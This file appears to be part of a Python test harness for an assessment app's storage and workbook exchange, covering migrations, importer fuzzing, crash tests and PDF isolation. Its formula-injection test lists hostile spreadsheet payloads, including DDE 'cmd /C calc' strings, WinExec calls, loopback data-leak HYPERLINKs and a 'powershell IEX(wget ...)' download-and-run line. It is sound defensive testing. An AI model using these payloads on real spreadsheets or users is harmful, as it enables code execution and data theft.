    old_steps = [r[0] for r in conn.execute("SELECT name FROM _sqlite_migrations ORDER BY rowid")]
    conn.close()
    target_steps = [m.name for m in MIGRATIONS._migrations]
    pending = [s for s in target_steps if s not in old_steps]
    problems: list[str] = []
    with open_store(db) as store:
        applied = [m.name for m in MIGRATIONS.applied(store.db)]
        if applied != target_steps:
            problems.append(f"{fixture.name}: schema steps after opening {applied}, expected {target_steps}")
        a = store.find_assessment(expected["assessment_uid"])
        if a is None:
            problems.append(f"{fixture.name}: the assessment is missing")
            got = {}
        else:
            got = store.answers(a.id)
            hist = len(store.history(a.id))
            if hist < expected["history_rows"]:
                problems.append(f"{fixture.name}: {expected['history_rows'] - hist} history rows lost")
    lost = 0
    for e in expected["answers"]:
        g = got.get(e["key"])
        ev = [{"kind": x.kind, "text": x.text} for x in g.evidence] if g else None
        if g is None or (g.status, g.value, g.comment, ev) != (e["status"], e["value"], e["comment"], e["evidence"]):
            lost += 1
            problems.append(f"{fixture.name}: {e['key']} changed: {g!r}")
    backups = [b for b in list_backups(db) if b.reason == "pre-migration"]
    backup_ok = True
    if pending:
        if not backups:
            backup_ok = False
            problems.append(f"{fixture.name}: migrated without a pre-migration backup")
        elif check_file(backups[-1].path) != "ok" or db_digest(backups[-1].path) != before:
            backup_ok = False
            problems.append(f"{fixture.name}: the pre-migration backup differs from the database before")
    return {"fixture": fixture.name, "pending": pending, "answers": len(expected["answers"]),
            "lost": lost, "backup_ok": backup_ok, "problems": problems}


def scenario_upgrades(workdir: Path) -> dict:
    """Every fixture database (one per schema version) opens, migrates after a backup, keeps every
    answer; and again with one more (simulated future) schema step."""
    from capacity_app.storage.schema import MIGRATIONS

    workdir = Path(workdir)
    fixtures = fixture_databases()
    problems: list[str] = []
    versions = {int(p.name[8:11]) for p in fixtures}
    missing = [n for n in range(1, len(MIGRATIONS._migrations) + 1) if n not in versions]
    if missing:
        problems.append(f"no fixture database for schema versions {missing} "
                        "(run tests/storage/fixtures/make_fixtures.py)")
    runs = []
    for f in fixtures:
        runs.append(check_fixture_upgrade(f, workdir / "current"))
    with extra_schema_step():
        for f in fixtures:
            runs.append(check_fixture_upgrade(f, workdir / "future"))
    migrated = sum(1 for r in runs if r["pending"])
    lost = sum(r["lost"] for r in runs)
    no_backup = sum(1 for r in runs if r["pending"] and not r["backup_ok"])
    for r in runs:
        problems.extend(r["problems"])
    summary = (f"{len(fixtures)} fixture databases (schema versions "
               f"{', '.join(str(v) for v in sorted(versions))}) opened {len(runs)} times, {migrated} "
               f"upgrades (incl. a simulated future step): {no_backup} without a good pre-migration "
               f"backup, {lost} answers lost of {sum(r['answers'] for r in runs)}")
    return result(not problems, summary, problems, fixtures=len(fixtures), opened=len(runs),
                  upgrades=migrated, without_backup=no_backup, lost=lost, missing_versions=missing)


# --- exchange helpers -------------------------------------------------------------------------

def skipped(reason: str) -> dict:
    return {"ok": True, "skipped": True, "summary": reason, "problems": []}


_RAW_ERROR_HINTS = ("Traceback", "NoneType", "has no attribute", "index out of range", "invalid literal for",
                    "unsupported operand", "not subscriptable", "object is not", "expected str",
                    "KeyError", "IndexError", "TypeError", "AttributeError", "ValueError(")


def names_the_problem(message: str, path: Path) -> bool:
    """The message names the file and gives a reason a person can act on (no raw Python error)."""
    if path.name not in message:
        return False
    reason = message.split(path.name, 1)[1].lstrip(": ")
    return len(reason) >= 8 and not any(h in reason for h in _RAW_ERROR_HINTS)


def answers_signature(store, aid: int) -> dict:
    return {k: (a.status, a.value, a.comment, tuple((e.kind, e.text) for e in a.evidence))
            for k, a in store.answers(aid).items()}


def plan_signature(plan) -> dict:
    return {a.key: (a.status, a.value, a.comment, tuple((e.kind, e.text) for e in a.evidence))
            for a in plan.answers}


class ImportBench:
    """A database holding the exported assessment; tries imports and restores it after each
    accepted one, so every attempt starts from the same content."""

    def __init__(self, workdir: Path, pristine: Path, trace_memory: bool | None = None):
        from capacity_app.services.assessments import questionnaire_for

        # Python's own allocations traced (the "peak Python memory" figure of docs/reliability.md)
        # in the long run only: tracing slows every import about threefold, and the importing
        # process's resident peak (VmHWM, fuzz_worker.py) is taken either way
        self.trace_memory = is_long() if trace_memory is None else trace_memory
        self.workdir = workdir
        self.pristine = pristine
        self.db = workdir / "target.sqlite3"
        self.q = questionnaire_for()
        self.store = None
        self._reset()

    def _reset(self) -> None:
        from capacity_app.services.assessments import open_store

        if self.store is not None:
            self.store.close()
        for side in ("", "-wal", "-shm"):
            Path(str(self.db) + side).unlink(missing_ok=True)
        shutil.copyfile(self.pristine, self.db)
        self.store = open_store(self.db, daily_backup=False, backup_dir=self.workdir / "backups")
        self.digest = db_digest(self.db)

    def close(self) -> None:
        if self.store is not None:
            self.store.close()
            self.store = None

    def attempt(self, path: Path) -> dict:
        """Read and apply ``path``; outcome: rejected | accepted | uncaught | partial."""
        import tracemalloc

        from capacity_app.services.exchange import apply_import, read_workbook

        out: dict[str, Any] = {"file": path.name}
        if self.trace_memory:
            tracemalloc.start()
        t0 = time.perf_counter()
        plan = None
        try:
            plan = read_workbook(path, self.q)
            # the workbook's values throughout: the database and the export share their second,
            # which the protection of newer answers (tested on its own) counts as "newer here"
            apply_import(self.store, plan, overwrite=True)
            out["outcome"] = "accepted"
        except Exception as exc:  # noqa: BLE001 - classified below
            out["exception"] = f"{type(exc).__name__}: {exc}"
            out["message"] = str(exc)
            from capacity_app.services.assessments import ServiceError
            from capacity_app.storage.db import StorageError

            if getattr(exc, "user_error", False) or isinstance(exc, (ServiceError, StorageError)):
                out["outcome"] = "rejected"
                out["named"] = names_the_problem(str(exc), path)
            else:
                import traceback

                out["outcome"] = "uncaught"
                out["traceback"] = "".join(traceback.format_exception(exc)[-3:])
        finally:
            out["seconds"] = time.perf_counter() - t0
            out["peak_bytes"] = tracemalloc.get_traced_memory()[1] if self.trace_memory else 0
            if self.trace_memory:
                tracemalloc.stop()
        if out["outcome"] == "accepted":
            a = self.store.find_assessment(plan.uid)
            if a is None or answers_signature(self.store, a.id) != plan_signature(plan):
                out["outcome"] = "partial"
            self._reset()
        elif db_digest(self.db) != self.digest:
            out["outcome"] = "partial"
            self._reset()
        return out


def exported_workbook(workdir: Path) -> tuple[Path, Path, int]:
    """A demo database and its exported workbook: (database, workbook, assessment id)."""
    from capacity_app.services.assessments import open_store
    from capacity_app.services.demo import create_demo
    from capacity_app.services.exchange import export_workbook

    db = workdir / "source.sqlite3"
    with open_store(db, daily_backup=False) as store:
        a = create_demo(store)
        xlsx = export_workbook(store, a.id, workdir / "assessment.xlsx")
    return db, Path(xlsx), a.id


def structural_edits(base: Path, q, full: bool) -> Iterator[tuple[str, str, Callable]]:
    """(category, name, edit(workbook)) hand edits made with openpyxl, like a person in Excel."""
    from capacity_app.exchange.workbook.format import ANSWERS, ANSWERS_COLUMNS, METADATA

    col = {name: i + 1 for i, name in enumerate(ANSWERS_COLUMNS)}

    def rows_of(ws, ftype=None):
        for r in range(2, ws.max_row + 1):
            key = ws.cell(r, col["Answer key"]).value
            res = q.resolve_key(key) if isinstance(key, str) else None
            if res and (ftype is None or res[1].type == ftype):
                yield r, key

    def first(ws, ftype):
        return next(rows_of(ws, ftype))[0]

    def meta_set(name, value):
        def edit(wb):
            ws = wb[METADATA]
            for r in range(2, ws.max_row + 1):
                if ws.cell(r, 1).value == name:
                    ws.cell(r, 2).value = value
        return edit

    def code(ftype, value):
        def edit(wb):
            ws = wb[ANSWERS]
            ws.cell(first(ws, ftype), col["Code"]).value = value
        return edit

    def swap_sheets(wb):
        a, m = wb[ANSWERS], wb[METADATA]
        a.title, m.title = "tmp-swap", ANSWERS
        a.title = METADATA

    def reorder(wb):
        wb._sheets.reverse()

    def dup_row(wb):
        ws = wb[ANSWERS]
        r = first(ws, "text")
        ws.append([c.value for c in ws[r]])

    def many_rows(wb):
        ws = wb[ANSWERS]
        r = first(ws, "text")
        values = [c.value for c in ws[r]]
        for i in range(20000):
            ws.append([*values[:1], f"zz_unknown_{i}", *values[2:]])

    def header_swap(wb):
        ws = wb[ANSWERS]
        a, b = ws.cell(1, col["Code"]).value, ws.cell(1, col["Comment"]).value
        ws.cell(1, col["Code"]).value, ws.cell(1, col["Comment"]).value = b, a

    def change_id(wb):
        ws = wb[ANSWERS]
        r, key = next(rows_of(ws))
        ws.cell(r, col["Answer key"]).value = key + "_changed"

    def blank_keys(wb):
        ws = wb[ANSWERS]
        for r, _ in list(rows_of(ws))[:3]:
            ws.cell(r, col["Answer key"]).value = None

    edits = [
        ("structural edit", "5 answer rows deleted", lambda wb: wb[ANSWERS].delete_rows(10, 5)),
        ("structural edit", "every answer row deleted", lambda wb: wb[ANSWERS].delete_rows(2, wb[ANSWERS].max_row)),
        ("structural edit", "Answers sheet renamed", lambda wb: setattr(wb[ANSWERS], "title", "Answers (2)")),
        ("structural edit", "Metadata sheet deleted", lambda wb: wb.remove(wb[METADATA])),
        ("structural edit", "Answers and Metadata sheets swapped", swap_sheets),
        ("structural edit", "sheet order reversed", reorder),
        ("structural edit", "answer key changed", change_id),
        ("structural edit", "three answer keys blanked", blank_keys),
        ("structural edit", "an answer row duplicated", dup_row),
        ("structural edit", "Code and Comment headers swapped", header_swap),
        ("structural edit", "text for a number (integer item)", code("integer", "twelve")),
        ("structural edit", "text for a number (year item)", code("year", "20x6")),
        ("structural edit", "huge number (decimal item)", code("decimal", 1e308)),
        ("structural edit", "negative number (integer item)", code("integer", -5)),
        ("structural edit", "choice code that does not exist", code("select_one", "no_such_code")),
        ("structural edit", "rating out of range", code("rating", 9)),
        ("structural edit", "a date where a choice belongs", code("select_one", __import__("datetime").datetime(2026, 1, 1))),
        ("structural edit", "40,000-character comment", lambda wb: setattr(
            wb[ANSWERS].cell(2, col["Comment"]), "value", "c" * 40000)),
        ("structural edit", "Don't know set to 'maybe'", lambda wb: setattr(
            wb[ANSWERS].cell(2, col["Don't know"]), "value", "maybe")),
        ("structural edit", "wrong format version", meta_set("format_version", "99")),
        ("structural edit", "wrong questionnaire version", meta_set("questionnaire_version", "9.9.9")),
        ("structural edit", "wrong questionnaire id", meta_set("questionnaire_id", "some-other-questionnaire")),
        ("structural edit", "edited checksum", meta_set("answers_sha256", "0" * 64)),
        ("structural edit", "unknown country", meta_set("country_iso3", "ZZZ")),
        ("structural edit", "round as text", meta_set("round", "two thousand")),
        ("structural edit", "round as a huge number", meta_set("round", 10 ** 30)),
        ("structural edit", "assessment uid removed", meta_set("assessment_uid", None)),
        ("structural edit", "mission end as text", meta_set("mission_end", "next week")),
        ("structural edit", "formula in a Metadata value", meta_set("title", "=HYPERLINK(\"http://x\")")),
        ("structural edit", "20,000 extra rows with unknown keys", many_rows),
    ]
    if not full:
        keep = {"5 answer rows deleted", "Answers and Metadata sheets swapped", "answer key changed",
                "text for a number (integer item)", "wrong questionnaire version", "edited checksum",
                "Metadata sheet deleted", "round as text"}
        edits = [e for e in edits if e[1] in keep]
    yield from edits


def _run_fuzz_workers(workdir: Path, pristine: Path, cases: list[dict]) -> list[dict]:
    """Import every case in fuzz_worker.py processes; a case during which the process dies is a
    'crash' and the next worker carries on after it."""
    cases_file = workdir / "cases.json"
    cases_file.write_text(json.dumps(cases), encoding="utf-8")
    results: dict[int, dict] = {}
    start = 0
    env = child_env()
    while start < len(cases):
        proc = subprocess.Popen([sys.executable, str(HERE / "fuzz_worker.py"), str(workdir), str(pristine),
                                 str(cases_file), str(start)], stdout=subprocess.PIPE,
                                stderr=subprocess.PIPE, text=True, env=env, cwd=str(HERE))
        current = None
        assert proc.stdout is not None and proc.stderr is not None
        for line in proc.stdout:
            if line.startswith("BEGIN "):
                current = int(line.split()[1])
            elif line.startswith("RESULT "):
                r = json.loads(line[7:])
                results[r["index"]] = r
        err = proc.stderr.read()
        proc.wait()
        if proc.returncode == 0:
            break
        first = next((ln for ln in err.splitlines() if ln.strip() and not ln.startswith(" ")), "")
        if current is None:  # the worker itself could not start: nothing more to learn
            raise RuntimeError(f"fuzz worker failed to start: {err[-800:]}")
        if current not in results:
            results[current] = {"index": current, "outcome": "crash", "seconds": 0.0, "peak_bytes": 0,
                                "exception": f"exit status {proc.returncode}: {first[:160]}", "message": ""}
        start = current + 1
    out = []
    for i, case in enumerate(cases):
        r = results.get(i) or {"outcome": "crash", "seconds": 0.0, "peak_bytes": 0,
                               "exception": "not reached", "message": ""}
        r.update(category=case["category"], name=case["name"], size=case["size"])
        out.append(r)
    return out


def scenario_importer_fuzz(workdir: Path, mutations: int, truncation_step: int = 1, full: bool = True,
                           seed: int = 6) -> dict:
    """Truncations, random byte mutations, structural edits, XML entity attacks, zip bombs,
    shared-string bombs and spreadsheet shapes (two sheets of one name, #N/A cells, LibreOffice's
    empty last row, password-protected and .ods files): only readable refusals or complete imports,
    each within 10 s; the database unchanged by every refused file."""

    import hostile_files as H
    from openpyxl import load_workbook

    workdir = Path(workdir)
    workdir.mkdir(parents=True, exist_ok=True)
    src_db, base_path, _ = exported_workbook(workdir)
    base = base_path.read_bytes()
    cases_dir = workdir / "cases"
    cases_dir.mkdir()
    cases: list[dict] = []
    t0 = time.perf_counter()

    def add(category: str, name: str, data: bytes) -> None:
        p = cases_dir / f"case-{len(cases):05d}.xlsx"
        p.write_bytes(data)
        cases.append({"category": category, "name": name, "size": len(data), "path": str(p)})

    add("baseline", "the unmodified export", base)
    for case in H.truncations(base, truncation_step):
        add(*case)
    for case in H.mutations(base, mutations, seed):
        add(*case)
    from capacity_app.services.assessments import questionnaire_for

    q = questionnaire_for()
    for category, name, edit in structural_edits(base_path, q, full):
        wb = load_workbook(base_path)
        edit(wb)
        buf = workdir / "edited.xlsx"
        wb.save(buf)
        add(category, name, buf.read_bytes())
    for case in H.xml_attacks(base):
        add(*case)
    for case in H.zip_bombs(base, big_mb=200 if full else 70):
        add(*case)
    for case in H.shapes(base):
        add(*case)
    results = _run_fuzz_workers(workdir, src_db, cases)
    baseline = results.pop(0)
    if baseline["outcome"] != "accepted":
        return result(False, "the unmodified export itself is not importable", [str(baseline)])
    elapsed = time.perf_counter() - t0
    problems: list[str] = []
    cats: dict[str, dict] = {}
    for r in results:
        c = cats.setdefault(r["category"], {"files": 0, "rejected": 0, "accepted": 0, "uncaught": 0,
                                            "partial": 0, "unnamed": 0, "worst_s": 0.0, "peak_mib": 0.0})
        c["files"] += 1
        c[r["outcome"]] = c.get(r["outcome"], 0) + 1
        if r["outcome"] == "crash":
            problems.append(f"{r['name']}: the importing process died ({r['exception']})")
        if r["outcome"] == "rejected" and not r.get("named"):
            c["unnamed"] += 1
            problems.append(f"{r['name']}: message does not name the problem: {r['message'][:200]!r}")
        if r["outcome"] == "uncaught":
            problems.append(f"{r['name']}: uncaught {r['exception'][:200]}")
        if r["outcome"] == "partial":
            problems.append(f"{r['name']}: partial import (database changed)")
        if r["category"] == "formula" and r["outcome"] == "accepted":
            problems.append(f"{r['name']}: a workbook with a formula cell was imported")
        elif r["category"] == "formula" and "formula" not in r.get("message", ""):
            problems.append(f"{r['name']}: the formula was not detected (refused for another reason: "
                            f"{r.get('message', '')[-120:]!r})")
        if r["category"] in ("entity bomb", "external entity") and r["outcome"] == "accepted":
            problems.append(f"{r['name']}: a workbook with a DOCTYPE/entity was imported")
        if r["category"] == "accepted shape" and r["outcome"] != "accepted":
            problems.append(f"{r['name']}: a harmless shape was refused: {r.get('message', '')[-160:]!r}")
        if r["category"] in ("shared-string bomb", "spreadsheet shape"):
            words = r["name"].rsplit("|", 1)[-1]
            if r["outcome"] != "rejected" or words not in r.get("message", ""):
                problems.append(f"{r['name']}: expected a refusal saying {words!r}, got {r['outcome']}: "
                                f"{r.get('message', '')[-160:]!r}")
        if r["seconds"] > 10:
            problems.append(f"{r['name']}: took {r['seconds']:.1f} s (limit 10 s)")
        c["worst_s"] = max(c["worst_s"], r["seconds"])
        c["peak_mib"] = max(c["peak_mib"], r["peak_bytes"] / 2 ** 20)
    total = len(results)
    crashes = sum(c.get("crash", 0) for c in cats.values())
    uncaught = sum(c["uncaught"] for c in cats.values())
    partial = sum(c["partial"] for c in cats.values())
    rejected = sum(c["rejected"] for c in cats.values())
    unnamed = sum(c["unnamed"] for c in cats.values())
    named_pct = 100.0 * (rejected - unnamed) / rejected if rejected else 100.0
    worst = max(results, key=lambda r: r["seconds"])
    peak = max(results, key=lambda r: r["peak_bytes"])
    # the importing (worker) processes' own peak, and the case that raised it most
    rss_mib = max((r.get("rss_kib", 0) for r in results), default=0) / 1024
    grew = max(results, key=lambda r: r.get("rss_growth_kib", 0))
    per_cat = "; ".join(f"{k}: {v['files']} files, "
                        + (f"{v['crash']} CRASHED the process, " if v.get("crash") else "")
                        + f"{v['rejected']} refused, {v['accepted']} accepted whole, "
                        f"worst {v['worst_s']:.2f} s" + (f" / {v['peak_mib']:.1f} MiB" if v["peak_mib"] else "")
                        for k, v in cats.items())
    summary = (f"{total} damaged or hostile files: {crashes} process crashes, {uncaught} uncaught exceptions, {partial} partial "
               f"imports, {named_pct:.0f}% of refusals name the file and the problem; worst time "
               f"{worst['seconds']:.2f} s ({worst['name']}), "
               + (f"peak Python memory {peak['peak_bytes'] / 2 ** 20:.1f} MiB ({peak['name']}), " if peak["peak_bytes"] else "")
               + f"importing process peak RSS {rss_mib:.0f} MiB "
               f"(largest rise {grew.get('rss_growth_kib', 0) / 1024:.0f} MiB, {grew['name']}). "
               f"By kind: {per_cat}")
    ok = crashes == 0 and uncaught == 0 and partial == 0 and unnamed == 0 and not problems
    return result(ok, summary, problems, files=total, crashes=crashes, uncaught=uncaught, partial=partial,
                  rejected=rejected, unnamed=unnamed, named_percent=round(named_pct, 1),
                  worst_seconds=round(worst["seconds"], 3), peak_mib=round(peak["peak_bytes"] / 2 ** 20, 1),
                  categories=cats, seconds=round(elapsed, 1))


# --- 3b. crash during export and import -------------------------------------------------------

def scenario_export_import_kills(workdir: Path, kills: int, seed: int = 5) -> dict:
    """SIGKILL while a workbook is exported (the target file is complete or absent) and while a
    workbook is imported (the database holds the assessment completely or not at all)."""
    from capacity_app.exchange.outside.safety import check_file as check_xlsx
    from capacity_app.services.assessments import open_store, questionnaire_for
    from capacity_app.services.exchange import read_workbook
    from capacity_app.storage.db import check_file

    workdir = Path(workdir)
    workdir.mkdir(parents=True, exist_ok=True)
    src_db, xlsx, aid = exported_workbook(workdir)
    rng = random.Random(seed)
    problems: list[str] = []
    # export
    out_dir = workdir / "exports"
    out_dir.mkdir()
    target = out_dir / "assessment.xlsx"
    incomplete = complete = absent = exports_done = 0
    for k in range(kills):
        target.unlink(missing_ok=True)
        child = Child("export", {"db": str(src_db), "aid": aid, "out": str(target)})
        if not child.wait_for("READY", 60):
            child.kill()
            problems.append(f"export kill {k}: child did not start: {child.stderr[-300:]}")
            continue
        time.sleep(rng.uniform(0.0, 2.0))
        child.kill()
        exports_done += sum(1 for ln in child.lines if ln == "DONE")
        if target.exists():
            try:
                check_xlsx(target)
                read_workbook(target, questionnaire_for())
                complete += 1
            except Exception as exc:  # noqa: BLE001 - an incomplete output is the finding
                incomplete += 1
                problems.append(f"export kill {k}: {target.name} is incomplete: {exc}")
        else:
            absent += 1
    leftovers = [p.name for p in out_dir.iterdir() if p != target]
    # import into a database that does not hold the assessment yet
    plan = read_workbook(xlsx, questionnaire_for())
    expected = plan_signature(plan)
    pristine = workdir / "import-pristine.sqlite3"
    make_database(pristine, n_answers=5)
    before = db_digest(pristine)
    db = workdir / "import.sqlite3"
    outcomes = {"before": 0, "after": 0, "between": 0}
    damaged = 0
    calib = None
    for k in range(kills + 1):
        for side in ("", "-wal", "-shm"):
            Path(str(db) + side).unlink(missing_ok=True)
        shutil.rmtree(workdir / "backups", ignore_errors=True)
        shutil.copyfile(pristine, db)
        child = Child("import", {"db": str(db), "xlsx": str(xlsx)})
        if calib is None:  # first run: uninterrupted, to time it
            if child.finish() != 0:
                return result(False, "the import child failed", [child.stderr[-500:]])
            calib = max(0.02, (child.time_of("APPLIED") or 0) - (child.time_of("START") or 0))
        else:
            child.wait_for("START", 60)
            time.sleep(rng.uniform(0.0, 1.2) * calib)
            child.kill()
        st = check_file(db)
        if st != "ok":
            damaged += 1
            problems.append(f"import kill {k}: database damaged: {st}")
            continue
        with open_store(db, readonly=True) as ro:
            a = ro.find_assessment(plan.uid)
            state = ("after" if a is not None and answers_signature(ro, a.id) == expected else
                     "between" if a is not None else None)
        if state is None:
            state = "before" if db_digest(db) == before else "between"
        if calib is not None and k == 0:
            if state != "after":
                problems.append("an uninterrupted import did not import the assessment")
            continue
        outcomes[state] += 1
        if state == "between":
            problems.append(f"import kill {k}: the database holds a partial import")
    ok = incomplete == 0 and outcomes["between"] == 0 and damaged == 0 and not problems
    summary = (f"{kills} kills during workbook exports ({exports_done} exports completed): {incomplete} "
               f"incomplete outputs ({complete} complete, {absent} absent), {len(leftovers)} temporary files "
               f"left; {kills} kills during imports (full import {calib:.2f} s): {outcomes['before']} before, "
               f"{outcomes['after']} after, {outcomes['between']} partial, {damaged} damaged")
    return result(ok, summary, problems, kills=kills, incomplete=incomplete, complete=complete, absent=absent,
                  temp_files_left=len(leftovers), before=outcomes["before"], after=outcomes["after"],
                  between=outcomes["between"], damaged=damaged)


# --- 7. formula injection ---------------------------------------------------------------------

FORMULA_PAYLOADS = [
    "=1+1", "=SUM(1,2)", "+1+1", "-1+1", "@SUM(1,2)", "=cmd|' /C calc'!A0", "=cmd|'/C notepad'!'A1'",
    "+cmd|' /C calc'!A0", "-cmd|' /C calc'!A0", "@cmd|' /C calc'!A0", "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
    "=HYPERLINK(\"http://127.0.0.1:9/leak?\"&A1,\"click\")", "=HYPERLINK(\"file:///etc/passwd\")",
    "=IMPORTXML(CONCAT(\"http://127.0.0.1:9/?\",A1),\"//a\")", "=WEBSERVICE(\"http://127.0.0.1:9/\")",
    "{=SUM(A1:A3)}", "{=1+1}", "=A1:A3*2", "\t=1+1", "\r=1+1", "\n=1+1", "\t", "\r", " =1+1",
    "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(1)", "=", "+", "-", "@", "==1", "=+1", "=-1",
    "=1/0", "=NA()", "=INDIRECT(\"A1\")", "=EXEC(\"calc\")", "=CALL(\"kernel32\",\"WinExec\",\"JJ\",\"calc\",0)",
    "=REGISTER(\"kernel32\",\"WinExec\")", "=msexcel|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
    "=rundll32|'URL.dll,OpenURL calc'!A", "=Shell(\"calc\")", "-2+3+cmd|' /C calc'!A0",
    "+HYPERLINK(\"http://127.0.0.1:9\")", "@HYPERLINK(\"http://127.0.0.1:9\")", "=\"a\"&\"b\"",
    "=CHAR(61)&\"1+1\"", "_x003D_1+1", "_x0009_=1", "=1+1_x000D_", "'=1+1", "''=1+1",
    "=1+1\n=2+2", "%0A=1+1", "&#61;1+1", "<f>1+1</f>", "</t></is></c><c><f>1+1</f></c>",
    "=SUM(1)\u0000", "=1+1\u0007", "\u200b=1+1", "\ufeff=1+1", "=cmd|' /C powershell IEX(wget 0r.pe/p)'!A0",
]


def _payload_store(db: Path, payloads: list[str]):
    """Answers, comments and evidence carrying each payload; returns (assessment id, entered,
    refused at entry by validation)."""
    from capacity_app.services.assessments import (
        ServiceError, add_evidence, create_assessment, open_store, questionnaire_for, record_answer,
    )

    q = questionnaire_for()
    keys = text_keys(q)
    refused: list[str] = []
    with open_store(db, daily_backup=False) as store:
        a = create_assessment(store, q, country="KEN", round=2026)
        for i, p in enumerate(payloads):
            key = keys[i % len(keys)]
            other = keys[-1 - i % len(keys)]
            for what, call in (("answer", lambda key=key, p=p: record_answer(store, q, a.id, key, p)),
                               ("comment", lambda other=other, p=p: record_answer(store, q, a.id, other,
                                                                                 "plain", comment=p)),
                               ("evidence", lambda key=key, p=p: add_evidence(store, q, a.id, key, "note", p))):
                try:
                    call()
                except ServiceError as exc:
                    refused.append(f"{what} {p!r}: {exc}")
        return a.id, answers_signature(store, a.id), refused


_FORMULA_ELEMENT = __import__("re").compile(rb"<(?:[A-Za-z_][\w.-]*:)?f[\s>/]")
_CHART_REF = __import__("re").compile(rb"<(?:[A-Za-z_][\w.-]*:)?f>(.*?)</(?:[A-Za-z_][\w.-]*:)?f>", 16)
_RANGE_REF = __import__("re").compile(rb"^'?[A-Za-z0-9 _]+'?!\$[A-Z]{1,3}\$[0-9]+(:\$[A-Z]{1,3}\$[0-9]+)?$")


def scenario_formula_injection(workdir: Path) -> dict:
    """Formula-like text in answers, comments and evidence: exported as text cells (no formula
    element in any XML part), and read back unchanged."""
    import zipfile
    from xml.etree import ElementTree as ET

    from capacity_app.services.assessments import open_store, questionnaire_for
    from capacity_app.services.exchange import apply_import, export_workbook, read_workbook

    workdir = Path(workdir)
    workdir.mkdir(parents=True, exist_ok=True)
    payloads = FORMULA_PAYLOADS
    db = workdir / "payloads.sqlite3"
    aid, before, refused = _payload_store(db, payloads)
    problems: list[str] = []
    with open_store(db, daily_backup=False) as store:
        xlsx = export_workbook(store, aid, workdir / "payloads.xlsx")
    formula_elements = non_text_cells = 0
    ns = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
    stripped = {p.strip() for p in payloads if p.strip()}
    with zipfile.ZipFile(xlsx) as zf:
        for name in zf.namelist():
            if not name.endswith(".xml"):
                continue
            data = zf.read(name)
            if name.startswith("xl/charts/"):
                # chart series point at cell ranges (<c:f>'Scores'!$D$2:$D$9</c:f>): only those
                refs = _CHART_REF.findall(data)
                n = sum(1 for r in refs if not _RANGE_REF.match(r))
            else:
                n = len(_FORMULA_ELEMENT.findall(data))
            if n:
                formula_elements += n
                problems.append(f"{name}: {n} formula elements")
            if name.startswith("xl/worksheets/"):
                for c in ET.fromstring(data).iter(f"{ns}c"):
                    if c.get("t") in ("s", "inlineStr"):
                        continue
                    v = c.find(f"{ns}v")
                    if v is not None and v.text and v.text.strip() in stripped:
                        non_text_cells += 1
                        problems.append(f"{name} {c.get('r')}: payload stored as a {c.get('t') or 'number'} cell")
    q = questionnaire_for()
    plan = read_workbook(xlsx, q)
    target = workdir / "reimported.sqlite3"
    with open_store(target, daily_backup=False) as store:
        a = apply_import(store, plan).assessment
        after = answers_signature(store, a.id)
    changed = [k for k in set(before) | set(after) if before.get(k) != after.get(k)]
    for k in changed[:10]:
        problems.append(f"{k}: {before.get(k)!r} came back as {after.get(k)!r}")
    carried = sum(1 for sig in before.values() for x in (sig[1], sig[2], *[t for _, t in sig[3]])
                  if isinstance(x, str) and x in payloads)
    ok = formula_elements == 0 and non_text_cells == 0 and not changed and not problems
    summary = (f"{len(payloads)} payloads through answers, comments and evidence ({carried} stored "
               f"values, {len(refused)} refused at entry by validation): {formula_elements} formula "
               f"elements and {non_text_cells} non-text payload cells in the export, {len(changed)} "
               f"values changed after re-import")
    return result(ok, summary, problems, payloads=len(payloads), stored=carried, refused_at_entry=len(refused),
                  formula_elements=formula_elements, non_text_cells=non_text_cells, changed=len(changed))


# --- the scenarios that need modules built by others: (name, promise, title, call) -------------

def extra_plan(n: dict) -> list[tuple[str, str, str, Callable]]:
    long = n is LONG or n == LONG
    return [
        ("export_import_kills", "2, 3", "kill -9 during workbook export and import",
         lambda d: scenario_export_import_kills(d, kills=n["export_import_kills"])),
        ("importer_fuzz", "3, 4", "importer fuzzing: truncation, mutation, structural edits, XML and zip attacks",
         lambda d: scenario_importer_fuzz(d, mutations=n["fuzz_mutations"],
                                          truncation_step=n["fuzz_truncation_step"], full=long)),
        ("formula_injection", "4, 5", "formula injection through export and re-import",
         lambda d: scenario_formula_injection(d)),
        ("pdf_isolation", "5", "PDF report isolation (files, network, embedding)",
         lambda d: scenario_pdf_isolation(d)),
        ("gui_close_during_export", "1, 7", "closing the window during a running export",
         lambda d: scenario_gui_close_during_export(d, closes=n["gui_closes"])),
    ]


# --- 8. PDF isolation -------------------------------------------------------------------------

class _Canary:
    """A loopback HTTP server that counts every request (none must arrive)."""

    def __init__(self):
        import http.server

        canary = self
        self.hits: list[str] = []

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                canary.hits.append(self.path)
                body = b"root:x:0:0:canary"
                self.send_response(200)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            do_POST = do_GET

            def log_message(self, *args):
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


class _AuditLog:
    """sys.addaudithook cannot be removed: one hook per process, recording only while active."""

    active = False
    opens: list[str] = []
    connects: list[str] = []
    processes: list[str] = []
    installed = False

    @classmethod
    def install(cls) -> None:
        if cls.installed:
            return

        def hook(event, args):
            if not cls.active:
                return
            if event == "open":
                p = args[0]
                if isinstance(p, (str, bytes, os.PathLike)):
                    cls.opens.append(os.fsdecode(p))
            elif event in ("socket.connect", "socket.sendto", "socket.getaddrinfo"):
                cls.connects.append(f"{event} {args[1:2]!r}")
            elif event == "urllib.Request":
                cls.connects.append(f"{event} {str(args)[:120]}")
            elif event in ("subprocess.Popen", "os.system", "os.exec", "os.posix_spawn"):
                cls.processes.append(f"{event} {str(args)[:120]}")

        sys.addaudithook(hook)
        cls.installed = True


_COLD_REPORT = r"""
import json, sys
seen = []
def hook(event, args):
    if event in ("subprocess.Popen", "os.system", "os.exec", "os.posix_spawn", "os.fork", "os.forkpty",
                 "os.spawn"):
        seen.append(f"{event} {str(args)[:120]}")
sys.addaudithook(hook)
from capacity_app.services.reports import export_report_from_database
export_report_from_database(sys.argv[1], int(sys.argv[2]), sys.argv[3])
print(json.dumps(seen))
"""


